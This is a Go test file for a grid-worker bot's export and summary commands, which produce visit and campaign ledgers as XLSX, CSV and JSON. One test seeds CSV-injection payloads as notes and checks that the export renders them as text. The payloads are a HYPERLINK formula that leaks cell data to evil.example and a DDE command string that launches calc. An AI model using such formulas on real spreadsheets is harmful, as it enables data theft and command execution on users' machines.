package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"gridbot/bot"
	"gridbot/flows"
	"gridbot/flows/chat"
	"gridbot/storage"
)

const exportToken = "export-test-token"

// apiServer runs the real admin API over a real store, as "gridbot serve"
// does, and returns its URL and the store.
func apiServer(t *testing.T) (string, *storage.DB) {
	t.Helper()
	db, err := storage.Open(filepath.Join(t.TempDir(), "gridbot.db"), storage.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	srv := httptest.NewServer(&bot.API{Token: exportToken, Store: db})
	t.Cleanup(srv.Close)
	return srv.URL, db
}

// seedExport saves n visits and one campaign in November 2026.
func seedExport(t *testing.T, db *storage.DB, n int) {
	t.Helper()
	ctx := context.Background()
	if err := db.PutWorker(ctx, flows.Worker{OpenID: "o-li", Name: "李娟", Community: "幸福社区", Grid: "1", Role: flows.RoleWorker}); err != nil {
		t.Fatal(err)
	}
	for i := range n {
		_, _, err := db.SaveReport(ctx, flows.Report{
			MsgKey: fmt.Sprint("v", i), Worker: "o-li", Community: "幸福社区", Grid: "1", Flow: "visit", Kind: "chronic",
			Day: fmt.Sprintf("2026-11-%02d", i%28+1), Target: fmt.Sprintf("3-2-%d", 100+i), Fields: map[string]string{"bp": "150/95"},
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	_, _, err := db.SaveReport(ctx, flows.Report{
		MsgKey: "c1", Worker: "o-li", Community: "幸福社区", Grid: "1", Flow: "campaign", Kind: "publicity",
		Day: "2026-11-05", Counts: map[string]float64{"leaflets": 1150, "participants": 98},
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestExportCommand(t *testing.T) {
	url, db := apiServer(t)
	seedExport(t, db, 30)
	dir := t.TempDir()
	tests := []struct {
		name  string
		args  []string
		file  string // "" when written to stdout
		check func(t *testing.T, data []byte)
	}{
		{
			name: "xlsx to file",
			args: []string{"-scope", "community:幸福社区", "-period", "2026-11", "-format", "xlsx", "-out", filepath.Join(dir, "11月台帐.xlsx")},
			file: filepath.Join(dir, "11月台帐.xlsx"),
			check: func(t *testing.T, data []byte) {
				x, err := excelize.OpenReader(bytes.NewReader(data))
				if err != nil {
					t.Fatal(err)
				}
				defer x.Close()
				visits, _ := x.GetRows("入户走访")
				campaigns, _ := x.GetRows("宣传活动")
				if len(visits) != 31 || visits[0][0] != "日期" || visits[1][1] != "李娟" {
					t.Errorf("visits sheet: %d rows, first %q", len(visits), visits[:min(2, len(visits))])
				}
				if len(campaigns) != 2 || campaigns[1][5] != "1150" {
					t.Errorf("campaign sheet %q", campaigns)
				}
			},
		},
		{
			name: "format from the file name",
			args: []string{"-scope", "grid:幸福社区/1", "-period", "2026-11-05", "-out", filepath.Join(dir, "day.csv")},
			file: filepath.Join(dir, "day.csv"),
			check: func(t *testing.T, data []byte) {
				rest, ok := bytes.CutPrefix(data, []byte("\xEF\xBB\xBF"))
				if !ok {
					t.Fatal("no BOM")
				}
				rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				// Days 5 of 30 visits (i%28+1 == 5: i = 4) and the campaign.
				if len(rows) != 3 || rows[1][0] != "入户走访" || rows[2][0] != "宣传活动" {
					t.Errorf("rows %q", rows)
				}
			},
		},
		{
			name: "json to stdout",
			args: []string{"-scope", "worker:o-li", "-period", "2026", "-format", "json", "-out", "-"},
			check: func(t *testing.T, data []byte) {
				var v struct{ Reports []flows.Report }
				if err := json.Unmarshal(data, &v); err != nil || len(v.Reports) != 31 {
					t.Errorf("%d reports, %v", len(v.Reports), err)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			args := append([]string{"-server", url, "-token", exportToken}, tt.args...)
			if err := runExport(context.Background(), args, &stdout, &stderr); err != nil {
				t.Fatalf("runExport: %v\n%s", err, stderr.String())
			}
			data := stdout.Bytes()
			if tt.file != "" {
				var err error
				if data, err = os.ReadFile(tt.file); err != nil {
					t.Fatal(err)
				}
				if !strings.Contains(stderr.String(), "已保存 "+tt.file) {
					t.Errorf("stderr %q", stderr.String())
				}
			}
			tt.check(t, data)
		})
	}
	// Nothing but the finished files is left behind (no .part files).
	entries, _ := os.ReadDir(dir)
	if len(entries) != 2 {
		t.Errorf("files in out dir: %v", entries)
	}
}

func TestExportCommandErrors(t *testing.T) {
	url, _ := apiServer(t)
	dir := t.TempDir()
	out := filepath.Join(dir, "x.xlsx")
	tests := []struct {
		name string
		args []string
		want string // in the error or on stderr
	}{
		{"wrong token", []string{"-server", url, "-token", "nope", "-scope", "all", "-period", "2026", "-out", out}, "401"},
		{"bad period", []string{"-server", url, "-token", exportToken, "-scope", "all", "-period", "2026-13", "-out", out}, "period"},
		{"bad scope", []string{"-server", url, "-token", exportToken, "-scope", "town:x", "-period", "2026", "-out", out}, "scope"},
		{"missing scope", []string{"-server", url, "-token", exportToken, "-period", "2026"}, "-scope"},
		{"bad format", []string{"-server", url, "-token", exportToken, "-scope", "all", "-period", "2026", "-format", "pdf"}, "-format"},
		{"server down", []string{"-server", "http://127.0.0.1:1", "-token", exportToken, "-scope", "all", "-period", "2026", "-out", out}, "gridbot serve"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			err := runExport(context.Background(), tt.args, &stdout, &stderr)
			if err == nil {
				t.Fatal("no error")
			}
			msg := err.Error() + stderr.String()
			if !strings.Contains(msg, tt.want) {
				t.Errorf("error %q, stderr %q: want %q", err, stderr.String(), tt.want)
			}
		})
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 0 {
		t.Errorf("a failed export left files: %v", entries)
	}
	var stderr bytes.Buffer
	if err := runExport(context.Background(), []string{"-help"}, io.Discard, &stderr); !errors.Is(err, flag.ErrHelp) || !strings.Contains(stderr.String(), "gridbot export") {
		t.Errorf("-help: %v %q", err, stderr.String())
	}
}

func TestProgressWriter(t *testing.T) {
	var out bytes.Buffer
	p := &progressWriter{w: &out, total: 3 << 20, every: 0}
	chunk := make([]byte, 1<<20)
	for range 3 {
		p.Write(chunk)
		time.Sleep(time.Millisecond)
	}
	p.done()
	got := out.String()
	for _, want := range []string{"已接收 1.0 MB / 3.0 MB", "已接收 3.0 MB / 3.0 MB"} {
		if !strings.Contains(got, want) {
			t.Errorf("progress %q: want %q", got, want)
		}
	}
	if !strings.HasSuffix(got, "\n") {
		t.Errorf("progress line not ended: %q", got)
	}
}

func TestSummaryCommand(t *testing.T) {
	url, db := apiServer(t)
	ctx := context.Background()
	seedExport(t, db, 3) // three visits that name no household: 户次 only
	// A roster of four households, and five visits to two of them: 3-2-201
	// (高血压) once a quarter, managed; 3-2-202 (糖尿病) once.
	roster := []flows.Household{
		{Community: "幸福社区", Grid: "1", Household: "3-2-201", Tags: []string{"高血压"}},
		{Community: "幸福社区", Grid: "1", Household: "3-2-202", Tags: []string{"2型糖尿病"}},
		{Community: "幸福社区", Grid: "1", Household: "3-2-203"},
		{Community: "幸福社区", Grid: "1", Household: "3-2-204", Tags: []string{"独居老人"}},
	}
	if _, err := db.PutHouseholds(ctx, roster); err != nil {
		t.Fatal(err)
	}
	for i, v := range []struct{ day, hh string }{
		{"2026-02-10", "3-2-201"}, {"2026-05-10", "3-2-201"}, {"2026-08-10", "3-2-201"}, {"2026-11-10", "3-2-201"}, {"2026-11-12", "3-2-202"},
	} {
		_, _, err := db.SaveReport(ctx, flows.Report{
			MsgKey: fmt.Sprint("h", i), Worker: "o-li", Community: "幸福社区", Grid: "1", Flow: "visit", Kind: "chronic",
			Day: v.day, Target: v.hh, Household: true,
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	var stdout, stderr bytes.Buffer
	err := runSummary(ctx, []string{"-server", url, "-token", exportToken, "-scope", "community:幸福社区", "-year", "2026"}, &stdout, &stderr)
	if err != nil {
		t.Fatalf("%v: %s", err, stderr.String())
	}
	want := "共入户走访2户、8户次，其中慢病随访2户（8户次）；开展宣传活动1次，其中宣传1次，发放宣传资料1150份，参与群众98人；" +
		"辖区花名册登记4户，入户2户，入户率50%；" +
		"对辖区内1名高血压患者进行每季度随访，随访4人次，规范管理1人，规范管理率100%；" +
		"对辖区内1名糖尿病患者进行每季度随访，随访1人次，规范管理0人，规范管理率0%。"
	if got := stdout.String(); !strings.Contains(got, want) {
		t.Errorf("paragraph\n got %q\nwant …%q", got, want)
	}
	stdout.Reset()
	err = runSummary(context.Background(), []string{"-server", url, "-token", exportToken, "-scope", "community:幸福社区", "-year", "2026", "-json"}, &stdout, &stderr)
	var s chat.Summary
	if err != nil || json.Unmarshal(stdout.Bytes(), &s) != nil || s.Counts["leaflets"] != 1150 ||
		s.Counts["visit.households"] != 2 || s.Coverage == nil || s.Coverage.Visited != 2 || s.Coverage.Managed[0].Managed != 1 {
		t.Errorf("-json: %v %s", err, stdout.String())
	}
	if err := runSummary(context.Background(), []string{"-server", url, "-token", exportToken, "-year", "2026"}, &stdout, &stderr); err == nil {
		t.Error("no -scope: no error")
	}
}

// Cells a spreadsheet would run as formulas (CSV injection) are written as
// text: CSV with a leading apostrophe, XLSX as plain string cells. The
// ledgers go through the real export path (admin API and runExport) and
// are read back from the files.
func TestExportNeutralisesFormulas(t *testing.T) {
	url, db := apiServer(t)
	ctx := context.Background()
	if err := db.PutWorker(ctx, flows.Worker{OpenID: "o-x", Name: "@王芳", Community: "幸福社区", Grid: "1", Role: flows.RoleWorker}); err != nil {
		t.Fatal(err)
	}
	notes := []string{
		`=HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
		"+1+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1,2)",
		"\t=1+1",
		"\r=1+1",
		"正常备注 =1", // not at the start: unchanged
	}
	for i, note := range notes {
		_, _, err := db.SaveReport(ctx, flows.Report{
			MsgKey: fmt.Sprint("f", i), Worker: "o-x", Community: "幸福社区", Grid: "1", Flow: "visit", Kind: "chronic",
			Day: fmt.Sprintf("2026-11-%02d", i+1), Target: fmt.Sprintf("3-2-%d", 100+i), Fields: map[string]string{"note": note},
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	export := func(file string) []byte {
		t.Helper()
		var stdout, stderr bytes.Buffer
		args := []string{"-server", url, "-token", exportToken, "-scope", "community:幸福社区", "-period", "2026-11", "-out", file}
		if err := runExport(ctx, args, &stdout, &stderr); err != nil {
			t.Fatalf("export %s: %v\n%s", file, err, stderr.String())
		}
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		return data
	}

	data := export(filepath.Join(dir, "l.csv"))
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\xEF\xBB\xBF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(header string) int {
		for i, h := range rows[0] {
			if h == header {
				return i
			}
		}
		t.Fatalf("no column %q in %q", header, rows[0])
		return -1
	}
	noteCol, nameCol, dayCol := col("备注"), col("网格员"), col("日期")
	if len(rows) != len(notes)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(notes)+1)
	}
	for i, note := range notes {
		want := "'" + note
		if i == len(notes)-1 {
			want = note
		}
		// encoding/csv reads a lone CR in a quoted field as nothing, as Excel does.
		if got := rows[i+1][noteCol]; got != strings.ReplaceAll(want, "\r", "") {
			t.Errorf("CSV note %d = %q, want %q", i, got, want)
		}
		if got := rows[i+1][nameCol]; got != "'@王芳" {
			t.Errorf("CSV name = %q, want '@王芳", got)
		}
		if got := rows[i+1][dayCol]; got != fmt.Sprintf("2026-11-%02d", i+1) {
			t.Errorf("CSV day = %q: a date must stay as it is", got)
		}
	}

	data = export(filepath.Join(dir, "l.xlsx"))
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	got, err := x.GetRows("入户走访")
	if err != nil || len(got) != len(notes)+1 {
		t.Fatalf("XLSX rows: %d, %v", len(got), err)
	}
	noteX := -1
	for i, h := range got[0] {
		if h == "备注" {
			noteX = i
		}
	}
	for i, note := range notes {
		cell, _ := excelize.CoordinatesToCellName(noteX+1, i+2)
		v, _ := x.GetCellValue("入户走访", cell)
		formula, _ := x.GetCellFormula("入户走访", cell)
		typ, _ := x.GetCellType("入户走访", cell)
		if v != strings.ReplaceAll(note, "\r", "\n") && v != note || formula != "" || typ != excelize.CellTypeInlineString {
			t.Errorf("XLSX %s = %q (formula %q, type %v), want the text %q as an inline string", cell, v, formula, typ, note)
		}
	}
}

// A scope that names nothing (a misspelt community) is an error naming it,
// not an empty ledger; a known community without reports in the period is
// still an (empty) ledger.
func TestExportUnknownScope(t *testing.T) {
	url, db := apiServer(t)
	seedExport(t, db, 1)
	dir := t.TempDir()
	for _, scope := range []string{"community:幸福小区", "grid:幸福社区/9", "worker:nobody"} {
		out := filepath.Join(dir, "x.csv")
		var stdout, stderr bytes.Buffer
		err := runExport(context.Background(), []string{"-server", url, "-token", exportToken, "-scope", scope, "-period", "2026-11", "-out", out}, &stdout, &stderr)
		if err == nil {
			t.Errorf("%s: no error", scope)
			continue
		}
		if !strings.Contains(err.Error(), scope) || !strings.Contains(err.Error(), "404") || !strings.Contains(err.Error(), "幸福社区") {
			t.Errorf("%s: error %q should name the scope, say 404 and list the known communities", scope, err)
		}
		if fileExists(out) {
			t.Errorf("%s: wrote %s", scope, out)
		}
	}
	var stdout, stderr bytes.Buffer
	err := runExport(context.Background(), []string{"-server", url, "-token", exportToken, "-scope", "community:幸福社区", "-period", "2025-01", "-format", "json", "-out", "-"}, &stdout, &stderr)
	if err != nil || !strings.Contains(stdout.String(), `"reports":[]`) {
		t.Errorf("known community, empty month: %v %q", err, stdout.String())
	}
}

// The default file name carries no ':' (Windows refuses it) nor '/'.
func TestExportDefaultFileName(t *testing.T) {
	url, db := apiServer(t)
	seedExport(t, db, 1)
	t.Chdir(t.TempDir())
	for _, scope := range []string{"community:幸福社区", "grid:幸福社区/1"} {
		var stdout, stderr bytes.Buffer
		if err := runExport(context.Background(), []string{"-server", url, "-token", exportToken, "-scope", scope, "-period", "2026-11", "-format", "csv"}, &stdout, &stderr); err != nil {
			t.Fatalf("%s: %v %s", scope, err, stderr.String())
		}
	}
	entries, err := os.ReadDir(".")
	if err != nil || len(entries) != 2 {
		t.Fatalf("files: %v %v", entries, err)
	}
	for _, e := range entries {
		if strings.ContainsAny(e.Name(), `:/\*?"<>|`) || !strings.HasPrefix(e.Name(), "ledger-") {
			t.Errorf("default file name %q", e.Name())
		}
	}
}
